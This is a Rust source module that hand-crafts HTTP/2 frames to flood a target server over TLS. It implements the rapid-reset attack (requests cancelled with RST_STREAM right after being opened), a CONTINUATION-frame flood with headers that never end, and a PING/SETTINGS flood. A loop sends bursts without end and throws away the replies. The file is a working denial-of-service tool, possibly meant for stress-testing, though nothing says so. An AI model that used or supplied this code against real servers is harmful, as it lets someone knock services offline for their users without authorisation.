//! HTTP/2 in frames made by hand, for what no client library would send.
use crate::tls;
use anyhow::Result;
use std::net::SocketAddrV4;
use tokio::io::{self, AsyncWriteExt};
use tokio_rustls::TlsConnector;
use tokio_util::task::AbortOnDropHandle;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET https://a/`: three entries of the static table and a literal.
const GET: &[u8] = &[0x82, 0x87, 0x84, 0x41, 1, b'a'];

/// A hundred requests that are cancelled as soon as they are made.
pub(super) fn resets(burst: u32) -> Vec<u8> {
    let cancelled = |step: u32| {
        let stream = (burst * 100 + step) * 2 + 1;
        let get = frame(HEADERS, END_STREAM | END_HEADERS, stream, GET);
        [get, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    };
    (0..100).flat_map(cancelled).collect()
}

/// Headers that never end.
pub(super) fn continuation(burst: u32) -> Vec<u8> {
    // Literals that are never indexed, so that only their number counts.
    let fields = [0x10, 1, b'x', 1, b'y'].repeat(3_000);
    let begins = if burst == 0 { frame(HEADERS, END_STREAM, 1, GET) } else { Vec::new() };
    [begins, frame(CONTINUATION, 0, 1, &fields)].concat()
}

/// What wants an answer each.
pub(super) fn pings_and_settings(_burst: u32) -> Vec<u8> {
    [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &[])].concat().repeat(100)
}

/// Opens a connection and sends burst after burst until it is closed; what is answered is thrown away.
pub(super) async fn flood(
    tls: &TlsConnector,
    to: SocketAddrV4,
    burst: fn(u32) -> Vec<u8>,
    sent: impl Fn(),
) -> Result<()> {
    let (mut reader, mut writer) = io::split(tls::connect(tls, to).await?);
    let _answers =
        AbortOnDropHandle::new(tokio::spawn(async move { io::copy(&mut reader, &mut io::sink()).await }));
    writer.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    for number in 0.. {
        writer.write_all(&burst(number)).await?;
        sent();
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
